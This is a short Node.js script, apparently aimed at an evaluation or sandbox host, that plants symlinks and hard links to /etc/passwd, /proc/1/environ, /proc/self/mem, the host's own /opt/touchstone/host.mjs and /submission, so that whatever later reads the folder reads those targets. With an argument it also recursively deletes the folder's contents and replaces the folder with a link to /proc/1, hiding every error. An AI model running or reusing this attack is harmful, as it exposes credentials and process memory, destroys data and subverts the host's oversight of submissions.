import { linkSync, renameSync, rmSync, rmdirSync, symlinkSync, readdirSync } from 'node:fs';

// Whoever reads the folder afterwards reads what it leads to.
const attempt = (work) => {
  try {
    work();
  } catch {
    // The next.
  }
};
for (const [at, target] of ['/etc/passwd', '/proc/1/environ', '/proc/self/mem', '/proc', '/', '.', '/dev/zero', '/dev/stdin', '/opt/touchstone/host.mjs', '/submission', '/sys/kernel', '/proc/kmsg'].entries()) {
  attempt(() => symlinkSync(target, `link-${at}`));
  attempt(() => symlinkSync(target, `link-${at}.txt`));
  attempt(() => linkSync(target, `hard-${at}`));
}
if (process.argv.length > 2) {
  // The folder itself becomes a link.
  const here = process.cwd();
  for (const name of readdirSync(here)) attempt(() => rmSync(`${here}/${name}`, { recursive: true }));
  attempt(() => renameSync(here, `${here}-old`));
  attempt(() => rmdirSync(here));
  attempt(() => symlinkSync('/proc/1', here));
}
